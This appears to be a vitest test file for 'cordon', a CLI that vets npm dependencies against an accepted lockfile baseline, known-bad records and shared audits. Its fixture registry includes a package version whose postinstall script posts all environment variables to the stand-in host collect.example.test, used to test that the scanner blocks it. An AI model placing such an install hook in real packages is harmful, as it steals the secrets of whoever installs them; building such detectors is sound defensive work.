// `cordon init`, `cordon accept` and what a scan makes of `cordon.lock`, on one small tree that changes under it.
import { execFileSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import { appendFileSync, existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { main } from '../../src/cli/main.ts'
import type { Report } from '../../src/domain/report.ts'
import { lockfileOf } from '../../src/replay/lockfile.ts'
import { textOf } from '../../src/replay/package-tarball.ts'
import { type Stage, stageProject } from '../../src/replay/stage.ts'
import type { WrittenLock } from '../../src/replay/written.ts'
import { type FixtureRegistry, startRegistry } from '../support/registry.ts'
import { type Scenario, scenarioOf } from '../support/scenario.ts'
import { fakeIo } from './fake-io.ts'

const source = `
about: Two old packages, one of them with an update that runs code on install and sends what it finds.
now: 2026-06-15T12:00:00Z
registry:
  trust: stripped
  packages:
    old-friend:
      versions:
        1.0.0: { published: 2020-01-01T10:00:00Z, files: { index.js: module.exports = 1 } }
    tidy-text:
      versions:
        1.0.0: { published: 2024-02-01T10:00:00Z, files: { package.json: { main: index.js }, index.js: module.exports = 1 } }
        1.1.0:
          published: 2026-05-01T12:00:00Z
          extends: 1.0.0
          files:
            package.json: { main: index.js, scripts: { postinstall: node setup.js } }
            setup.js: "require('node:https').request('https://collect.example.test/', { method: 'POST' }).end(JSON.stringify(process.env))"
        1.2.0:
          published: 2026-05-20T12:00:00Z
          extends: 1.1.0
          files: { readme.md: hello }
    young-one:
      versions:
        1.0.0: { published: 2026-06-15T00:00:00Z, files: { index.js: module.exports = 1 } }
    gone-sour:
      versions:
        1.0.0: { published: 2024-02-01T10:00:00Z, deprecated: "malicious: compromised release", files: { index.js: module.exports = 1 } }
project:
  package.json: { name: app, version: 1.0.0, dependencies: { old-friend: ^1.0.0, tidy-text: ^1.0.0 } }
lock:
  tree:
    node_modules/old-friend: old-friend@1.0.0
    node_modules/tidy-text: tidy-text@1.0.0
`

let scenario: Scenario
let registry: FixtureRegistry
let stage: Stage

beforeAll(async () => {
  scenario = scenarioOf(source)
  registry = await startRegistry(scenario.registry)
  stage = await stageProject(scenario, registry.origin)
})
afterAll(async () => {
  await stage.remove()
  await registry.close()
})
beforeEach(() => {
  for (const name of ['cordon.lock', '.gitattributes', '.git', 'other.lock', 'cordon.yml', 'bad.json']) {
    rmSync(join(stage.project, name), { recursive: true, force: true })
  }
  lock('1.0.0')
})

/** The tree with this version of tidy-text; others as they are named. */
function lock(version: string, more: WrittenLock['tree'] = {}): void {
  const tree = {
    'node_modules/old-friend': 'old-friend@1.0.0',
    'node_modules/tidy-text': `tidy-text@${version}`,
    ...more,
  }
  const manifest = {
    name: 'app',
    version: '1.0.0',
    dependencies: {
      'old-friend': '^1.0.0',
      'tidy-text': '^1.0.0',
      ...(more['node_modules/young-one'] && { 'young-one': '^1.0.0' }),
      ...(more['node_modules/gone-sour'] && { 'gone-sour': '^1.0.0' }),
    },
  }
  writeFileSync(join(stage.project, 'package.json'), JSON.stringify(manifest))
  write('package-lock.json', textOf(lockfileOf(scenario.packages, registry.origin, { tree }, manifest)))
}

const path = (name: string) => join(stage.project, name)
const read = (name: string) => readFileSync(path(name), 'utf8')
const write = (name: string, text: string) => writeFileSync(path(name), text)
const entries = () => read('cordon.lock').split('\n').slice(1, -1)
/** Kind, release and standard of each line. */
const accepted = () =>
  entries().map((line) =>
    line
      .split(' ')
      .filter((_, index) => [1, 3].includes(index))
      .join(' '),
  )

type Ran = { code: number; out: string; err: string; tarballs: number }

async function cordon(
  args: readonly string[],
  ask: 'none' | ((question: string) => Promise<string>) = 'none',
  onOutput = () => {},
): Promise<Ran> {
  const env = {
    HOME: stage.home,
    PATH: process.env.PATH,
    npm_config_registry: `${registry.origin}/`,
    npm_config_cache: join(stage.home, '.npm'),
    GIT_CONFIG_GLOBAL: join(stage.home, 'gitconfig'),
    GIT_CONFIG_NOSYSTEM: '1',
  }
  writeFileSync(join(stage.home, 'gitconfig'), '[user]\nemail = ada@example.test\nname = ada\n')
  const { err, io, out } = fakeIo({ cwd: stage.project, env, ask, now: () => Date.parse(scenario.now) })
  registry.forget()
  const now = args.includes('--prune') ? [] : ['--now', scenario.now]
  const write = async (text: string) => {
    onOutput()
    await io.stdout.write(text)
  }
  const code = await main([...args, ...now], { ...io, stdout: { ...io.stdout, write } })
  return { code, out: out(), err: err(), tarballs: registry.count('tarball') }
}

async function scan(...args: string[]): Promise<Report & Pick<Ran, 'code' | 'tarballs'>> {
  const { code, out, err, tarballs } = await cordon(['scan', '--format', 'json', '--all', ...args])
  if (out === '') throw new Error(err)
  return { ...JSON.parse(out), code, tarballs }
}

const verdicts = ({ packages }: Report) => Object.fromEntries(packages.map((one) => [one.name, one.verdict]))
const rulesOf = ({ packages }: Report, name: string) =>
  packages.filter((one) => one.name === name).flatMap((one) => one.findings.map(({ rule }) => rule))
const who = '2026-06-01T10:00:00Z "ada@example.test" "looked"'
const codes = ({ notices }: Report) => notices.map(({ code }) => code)

describe('cordon init', () => {
  test('accepts the tree without a tarball, and a scan trusts it and counts the debt', async () => {
    const init = await cordon(['init'])
    expect([init.code, init.err, init.tarballs]).toEqual([0, '', 0])
    expect(accepted()).toEqual(['old-friend@1.0.0 initial', 'tidy-text@1.0.0 initial'])
    expect(entries()[0]).toMatch(/ 2026-06-15T12:00:00Z "ada@example\.test" ""$/)
    // There is no repository here.
    expect(existsSync(path('.gitattributes'))).toBe(false)

    const report = await scan()
    expect([report.code, report.tarballs]).toEqual([0, 0])
    expect(report.summary).toMatchObject({ trusted: 2, baselineDebt: 2 })
    expect(report.packages.map(({ acceptedIn, baseline }) => [acceptedIn, baseline.status])).toEqual([
      ['cordon.lock', 'accepted'],
      ['cordon.lock', 'accepted'],
    ])
    expect((await cordon(['scan'])).out).toContain('debt: 2 packages')
    expect((await cordon(['explain', 'old-friend@1.0.0'])).out.split('\n')[0]).toBe('old-friend@1.0.0 is trusted')
  })

  test('leaves out what waits, what is blocked and what no digest pins', async () => {
    const entry = { version: '1.0.0', resolved: `${registry.origin}/x`, integrity: '' }
    lock('1.0.0', {
      'node_modules/young-one': 'young-one@1.0.0',
      'node_modules/old-friend': { set: { ...entry, integrity: `sha512-${Buffer.alloc(64).toString('base64')}` } },
      'node_modules/tidy-text': { set: { ...entry, resolved: `${registry.origin}/tidy-text/-/tidy-text-1.0.0.tgz` } },
    })
    const init = await cordon(['init'])
    expect([init.code, entries()]).toEqual([0, []])
    expect(init.out.match(/^ {2}(\S+) +(\S+?)@/gm)?.map((line) => line.trim().split(/ +/))).toEqual([
      ['blocked', 'old-friend@'],
      ['not-pinned', 'tidy-text@'],
      ['waiting', 'young-one@'],
    ])
  })

  test('does not begin anew over what is there', async () => {
    await cordon(['init'])
    const before = read('cordon.lock')
    const again = await cordon(['init'])
    expect([again.code, again.err.split(':')[0], read('cordon.lock')]).toEqual([2, 'error already-initialised', before])
  })

  test('keeps approved scripts, and has git merge both sides', async () => {
    const script = `script tidy-text sha256-${'a'.repeat(64)} 2026-06-01T10:00:00Z "ada@example.test" "builds"`
    write('cordon.lock', `cordon.lock 1\n${script}\n`)
    write('.gitattributes', '*.png binary')
    execFileSync('git', ['init', '-q'], { cwd: stage.project })
    await cordon(['init'])
    expect(entries()).toHaveLength(3)
    expect(entries()[2]).toBe(script)
    expect(read('.gitattributes')).toBe('*.png binary\ncordon.lock merge=union\n')
  })
})

describe('a scan', () => {
  test('judges what changed against what was accepted, and nothing else', async () => {
    await cordon(['init'])
    lock('1.1.0')
    const report = await scan()
    expect(verdicts(report)).toEqual({ 'old-friend': 'trusted', 'tidy-text': 'blocked' })
    const changed = report.packages.find(({ name }) => name === 'tidy-text')
    expect(changed?.baseline).toEqual({ status: 'accepted', version: '1.0.0' })
  })

  test('trusts no other bytes under an accepted name and version', async () => {
    await cordon(['init'])
    const other = `sha512-${Buffer.alloc(64, 9).toString('base64')}`
    write('cordon.lock', read('cordon.lock').replace(/(old-friend@1\.0\.0) \S+/, `$1 ${other}`))
    const report = await scan()
    expect([report.code, verdicts(report)]).toEqual([1, { 'old-friend': 'blocked', 'tidy-text': 'trusted' }])
    expect(rulesOf(report, 'old-friend')).toContain('accepted-as-other-bytes')
  })

  test('still judges the lock entry of what is trusted', async () => {
    const integrity = `sha512-${Buffer.alloc(64, 9).toString('base64')}`
    lock('1.0.0', { 'node_modules/old-friend': { set: { version: '1.0.0', integrity } } })
    const who = 'reviewed 2026-06-01T10:00:00Z "ada@example.test" "looked"'
    write('cordon.lock', `cordon.lock 1\nrelease old-friend@1.0.0 ${integrity} ${who}\n`)
    const report = await scan()
    expect(verdicts(report)).toMatchObject({ 'old-friend': 'blocked' })
    expect(rulesOf(report, 'old-friend')).toEqual(['integrity-differs-from-registry'])
  })

  test('never trusts an entry without integrity', async () => {
    await cordon(['init'])
    const resolved = `${registry.origin}/old-friend/-/old-friend-1.0.0.tgz`
    lock('1.0.0', { 'node_modules/old-friend': { set: { version: '1.0.0', resolved } } })
    expect(verdicts(await scan())['old-friend']).not.toBe('trusted')
  })

  test('says when the bytes of an accepted release are gone, and compares with the history', async () => {
    const gone = `sha512-${Buffer.alloc(64, 3).toString('base64')}`
    const who = 'reviewed 2026-06-01T10:00:00Z "ada@example.test" "looked"'
    write('cordon.lock', `cordon.lock 1\nrelease tidy-text@1.0.5 ${gone} ${who}\n`)
    lock('1.1.0')
    const report = await scan()
    expect(codes(report)).toContain('accepted-bytes-gone')
    const changed = report.packages.find(({ name }) => name === 'tidy-text')
    expect([changed?.verdict, changed?.baseline]).toEqual(['blocked', { status: 'history', version: '1.0.0' }])
  })

  test('takes a broken cordon.lock for what it is', async () => {
    write('cordon.lock', 'cordon.lock 1\n<<<<<<< HEAD\n')
    const { code, err } = await cordon(['scan'])
    expect([code, err.split(':')[0]]).toEqual([2, 'error cordon-lock-conflict'])
  })

  test.for<[string, string]>([
    ['initial', 'review'],
    ['reviewed', 'trusted'],
  ])('what asks for review: who accepted it as %s leaves it %s', async ([standard, verdict]) => {
    const integrity = `sha512-${Buffer.alloc(64, 9).toString('base64')}`
    lock('1.0.0', { 'node_modules/old-friend': { set: { version: '1.0.0', integrity } } })
    write('cordon.yml', 'rules: [{ rule: integrity-differs-from-registry, outcome: review, reason: ours }]\n')
    write('cordon.lock', `cordon.lock 1\nrelease old-friend@1.0.0 ${integrity} ${standard} ${who}\n`)
    const report = await scan('--fail-on', 'review')
    expect([report.code, verdicts(report)['old-friend']]).toEqual([verdict === 'review' ? 1 : 0, verdict])
    expect(rulesOf(report, 'old-friend')).toEqual(['integrity-differs-from-registry'])
  })

  test('news of a release that somebody reviewed ask for review again', async () => {
    lock('1.0.0', { 'node_modules/gone-sour': 'gone-sour@1.0.0' })
    const accept = await cordon(['accept', 'gone-sour@1.0.0', '--note', 'read it'])
    expect([accept.code, accept.out.includes('stays in review by deprecated-as-attack')]).toEqual([0, true])
    const report = await scan('--fail-on', 'review')
    expect([report.code, verdicts(report)['gone-sour'], report.tarballs]).toEqual([1, 'review', 0])
  })

  test('against a commit, what the head accepts is a proposal', { timeout: 30_000 }, async () => {
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.test', ...args], { cwd: stage.project })
    git('init', '-q', '-b', 'main')
    await cordon(['init'])
    git('add', 'package.json', 'package-lock.json', 'cordon.lock')
    git('commit', '-q', '-m', 'begin')
    lock('1.1.0')
    await cordon(['accept', 'tidy-text@1.1.0', '--note', 'trust me'])
    expect(verdicts(await scan())).toMatchObject({ 'tidy-text': 'trusted' })
    const report = await scan('--base', 'main')
    expect([report.code, verdicts(report)]).toEqual([1, { 'tidy-text': 'blocked' }])
    const [{ detail } = { detail: '' }] = report.notices.filter(({ code }) => code === 'accepted-proposals')
    expect(detail).toMatch(/^1 \(sha256-[0-9a-f]{64}\)$/)
    const digest = detail.slice('1 ('.length, -1)
    const approved = await scan('--base', 'main', '--proposals', digest)
    expect([approved.code, verdicts(approved)]).toEqual([0, { 'tidy-text': 'trusted' }])
    expect(codes(approved)).toContain('proposals-approved')
    const other = await cordon(['scan', '--base', 'main', '--proposals', `sha256-${'0'.repeat(64)}`])
    expect([other.code, other.err]).toEqual([2, expect.stringContaining('proposals-differ')])
    const alone = await cordon(['scan', '--proposals', digest, '--base-folder', 'a'])
    expect([alone.code, alone.err.split('needs-base-commit').length]).toEqual([2, 3])
  })
})

describe('cordon accept', () => {
  test('shows what is accepted, and writes it down with its reason', async () => {
    await cordon(['init'])
    lock('1.1.0')
    const done = await cordon(['accept', 'tidy-text@1.1.0', '--note', 'read setup.js'])
    expect([done.code, done.err]).toEqual([0, ''])
    expect(done.out).toContain('tidy-text@1.1.0 is blocked')
    expect(accepted()).toEqual(['old-friend@1.0.0 initial', 'tidy-text@1.0.0 initial', 'tidy-text@1.1.0 reviewed'])
    const report = await scan()
    expect([report.code, report.tarballs, report.summary.baselineDebt]).toEqual([0, 0, 1])

    // From here on it is the baseline: the same script is no news, and the history is not asked.
    lock('1.2.0')
    const next = (await scan()).packages.find(({ name }) => name === 'tidy-text')
    expect([next?.verdict, next?.baseline]).toEqual(['passed', { status: 'accepted', version: '1.1.0' }])

    const pruned = await cordon(['accept', '--prune'])
    expect([pruned.code, pruned.out, accepted()]).toEqual([
      0,
      'removed 2 lines from cordon.lock, kept 1\n',
      ['old-friend@1.0.0 initial'],
    ])
  })

  test('keeps what somebody else accepted meanwhile', async () => {
    const other = `release zebra@1.0.0 sha512-${Buffer.alloc(64, 5).toString('base64')} reviewed ${who}`
    await cordon(['accept', 'tidy-text@1.0.0', '--note', 'read it'], 'none', () => {
      if (!existsSync(path('cordon.lock'))) write('cordon.lock', `cordon.lock 1\n${other}\n`)
    })
    expect(accepted()).toEqual(['tidy-text@1.0.0 reviewed', 'zebra@1.0.0 reviewed'])
  })

  test('turns what was only there into what somebody looked at', async () => {
    await cordon(['init'])
    await cordon(['accept', 'old-friend@1.0.0', 'tidy-text@1.0.0', '--note', 'read both'])
    expect(accepted()).toEqual(['old-friend@1.0.0 reviewed', 'tidy-text@1.0.0 reviewed'])
    expect((await scan()).summary.baselineDebt).toBe(0)
  })

  test('says what it does not answer', async () => {
    write('cordon.yml', 'registries: { "*": [registry.example.test] }\n')
    const { code, out } = await cordon(['accept', 'old-friend@1.0.0', '--note', 'from our mirror'])
    expect([code, out.includes('stays blocked by registry-not-allowed')]).toEqual([0, true])
  })

  test('replaces what was accepted as other bytes', async () => {
    await cordon(['init'])
    const other = `sha512-${Buffer.alloc(64, 9).toString('base64')}`
    write('cordon.lock', read('cordon.lock').replace(/(old-friend@1\.0\.0) \S+/, `$1 ${other}`))
    await cordon(['accept', 'old-friend@1.0.0', '--note', 'published anew'])
    expect(accepted()).toEqual(['old-friend@1.0.0 reviewed', 'tidy-text@1.0.0 initial'])
    expect((await scan()).code).toBe(0)
  })

  const refused: readonly [name: string, args: string[], code: string][] = [
    ['no reason', ['tidy-text@1.0.0'], 'no-note'],
    ['a blank reason', ['tidy-text@1.0.0', '--note', '  '], 'no-note'],
    ['what is not locked', ['tidy-text@1.1.0', '--note', 'x'], 'not-in-lockfile'],
    ['a name alone', ['tidy-text', '--note', 'x'], 'no-release'],
    ['nothing, on a pipe', [], 'no-target'],
    ['a reason that no line holds', ['tidy-text@1.0.0', '--note', 'x'.repeat(2001)], 'note-too-long'],
    ['what nobody can read', ['tidy-text@1.0.0', '--note', 'x', '--offline', '--cache-dir', 'nowhere'], 'unread'],
    ['prune together with a release', ['--prune', 'tidy-text@1.0.0'], 'prune-alone'],
  ]
  for (const [name, args, code] of refused) {
    test(`refuses ${name}`, async () => {
      const ran = await cordon(['accept', ...args])
      expect([ran.code, ran.err.split(':')[0], existsSync(path('cordon.lock'))]).toEqual([2, `error ${code}`, false])
    })
  }

  test('refuses bytes that nobody serves', async () => {
    const integrity = `sha512-${Buffer.alloc(64, 9).toString('base64')}`
    lock('1.0.0', { 'node_modules/old-friend': { set: { version: '1.0.0', integrity } } })
    const ran = await cordon(['accept', 'old-friend@1.0.0', '--note', 'our own build'])
    expect([ran.code, ran.err.split(':')[0], existsSync(path('cordon.lock'))]).toEqual([2, 'error unread', false])
  })

  test('refuses all when one cannot be accepted', async () => {
    const resolved = `${registry.origin}/old-friend/-/old-friend-1.0.0.tgz`
    lock('1.0.0', { 'node_modules/old-friend': { set: { version: '1.0.0', resolved } } })
    const ran = await cordon(['accept', 'old-friend@1.0.0', 'tidy-text@1.0.0', '--note', 'x'])
    expect([ran.code, ran.err.split(':')[0], existsSync(path('cordon.lock'))]).toEqual([
      2,
      'error not-acceptable',
      false,
    ])
  })

  test('on a terminal asks for each that did not pass, and a reason', async () => {
    await cordon(['init'])
    lock('1.1.0', { 'node_modules/young-one': 'young-one@1.0.0' })
    const asked: string[] = []
    const answers = ['y', 'read setup.js', 'y', ' ']
    const ran = await cordon(['accept'], async (question) => {
      asked.push(question)
      return answers.shift() ?? ''
    })
    expect(asked).toEqual(['accept tidy-text@1.1.0? [y/N] ', 'why? ', 'accept young-one@1.0.0? [y/N] ', 'why? '])
    expect(ran.out.trimEnd().split('\n').at(-1)).toBe('accepted 1 release of 2')
    expect(accepted()).toContain('tidy-text@1.1.0 reviewed')
  })

  test('on a terminal keeps what somebody else accepted meanwhile, and takes no reason that no line holds', async () => {
    lock('1.1.0', { 'node_modules/young-one': 'young-one@1.0.0' })
    const other = `release zebra@1.0.0 sha512-${Buffer.alloc(64, 5).toString('base64')} reviewed ${who}`
    const answers = ['y', 'read setup.js', 'y', 'x'.repeat(2001)]
    await cordon(['accept'], async () => {
      write('cordon.lock', `cordon.lock 1\n${other}\n`)
      return answers.shift() ?? ''
    })
    expect(accepted()).toEqual(['tidy-text@1.1.0 reviewed', 'zebra@1.0.0 reviewed'])
  })

  test('on a terminal shows the content of what was only there', async () => {
    lock('1.1.0')
    await cordon(['accept', 'tidy-text@1.1.0', '--note', 'x'])
    write('cordon.lock', read('cordon.lock').replace(' reviewed ', ' initial '))
    write('cordon.yml', 'registries: { "*": [registry.example.test] }\n')
    const { out } = await cordon(['accept'], async () => '')
    expect(out).toContain('install-script-added')
  })
})

describe('what is known to be bad', () => {
  beforeEach(() => {
    const affected = [{ package: { ecosystem: 'npm', name: 'old-friend' }, versions: ['1.0.0'] }]
    const record = { id: 'MAL-2026-1', modified: '2026-06-01T00:00:00Z', summary: 'steals secrets', affected }
    write('bad.json', JSON.stringify(record))
    write('cordon.yml', 'knownBad: { from: [bad.json] }\n')
  })

  test('is not accepted with the tree, nor by name', async () => {
    const init = await cordon(['init'])
    expect([init.code, accepted()]).toEqual([0, ['tidy-text@1.0.0 initial']])
    expect(init.out).toMatch(/known-bad +old-friend@1\.0\.0/)
    const ran = await cordon(['accept', 'old-friend@1.0.0', '--note', 'I like it'])
    expect([ran.code, ran.err.split(':')[0], accepted()]).toEqual([2, 'error known-bad', ['tidy-text@1.0.0 initial']])
  })

  test('is blocked, whoever accepted it before that was known', async () => {
    rmSync(path('cordon.yml'))
    await cordon(['accept', 'old-friend@1.0.0', '--note', 'I like it'])
    expect(verdicts(await scan())).toMatchObject({ 'old-friend': 'trusted' })
    write('cordon.yml', 'knownBad: { from: [bad.json] }\n')
    const report = await scan()
    expect([report.code, verdicts(report)['old-friend'], report.tarballs]).toEqual([1, 'blocked', 0])
    expect(rulesOf(report, 'old-friend')).toEqual(['known-malicious'])
  })
})

describe('shared audits', () => {
  const digestOf = (text: string) => createHash('sha256').update(text).digest('hex')
  const policy = (digest: string, author = 'bea@example.test') =>
    write('cordon.yml', `imports:\n  - { from: other.lock, digest: sha256-${digest}, authors: [${author}] }\n`)

  /** Of another team, which reviewed one release and found the other one there. */
  async function writeOther(): Promise<string> {
    await cordon(['init'])
    const [friend = '', tidy = ''] = entries()
    const reviewed = friend.replace('initial', 'reviewed').replace(/"ada.*$/, '"bea@example.test" "read it"')
    const text = `cordon.lock 1\n${reviewed}\n${tidy}\n`
    rmSync(path('cordon.lock'))
    write('other.lock', text)
    return digestOf(text)
  }

  test('count where the named authors reviewed', async () => {
    policy(await writeOther())
    const report = await scan()
    expect(verdicts(report)).toEqual({ 'old-friend': 'trusted', 'tidy-text': 'passed' })
    expect(report.packages[0]?.acceptedIn).toBe('other.lock')
    expect(report.notices).toContainEqual({ code: 'trusted-by-import', detail: '1 by other.lock' })
    expect(report.summary.baselineDebt).toBe(0)
  })

  test('of somebody else do not', async () => {
    policy(await writeOther(), 'cyd@example.test')
    expect(verdicts(await scan())).toEqual({ 'old-friend': 'passed', 'tidy-text': 'passed' })
  })

  test('that changed are not read', async () => {
    policy(await writeOther())
    appendFileSync(path('other.lock'), '\n')
    const { code, err } = await cordon(['scan'])
    expect([code, err.split(':')[0]]).toEqual([2, 'error import-changed'])
  })
})
